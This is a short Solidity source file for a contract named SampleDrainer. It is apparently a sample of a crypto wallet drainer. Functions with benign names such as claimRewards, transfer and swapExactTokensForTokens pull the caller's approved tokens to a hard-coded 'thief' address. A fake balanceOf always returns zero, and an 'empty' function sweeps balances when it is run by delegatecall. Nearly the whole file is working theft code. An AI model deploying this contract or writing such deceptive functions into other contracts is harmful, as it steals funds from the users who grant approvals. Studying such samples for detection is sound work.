// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// Takes what its caller has approved, in functions with misleading names.
contract SampleDrainer {
    address public immutable thief;
    IERC20 public immutable token;

    constructor(address thief_, IERC20 token_) {
        thief = thief_;
        token = token_;
    }

    function claimRewards() external payable {
        drain();
    }

    function deposit() external payable {}

    function transfer(address, uint256) external returns (bool) {
        drain();
        return true;
    }

    function swapExactTokensForTokens(uint256 amountIn, uint256, address[] calldata path, address, uint256)
        external
        returns (uint256[] memory amounts)
    {
        IERC20(path[0]).transferFrom(msg.sender, thief, amountIn);
        amounts = new uint256[](path.length);
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    /// By delegatecall it pays from the account that runs it.
    function empty(IERC20 what, address to) external {
        what.transfer(to, what.balanceOf(address(this)));
    }

    function drain() private {
        token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender));
    }
}
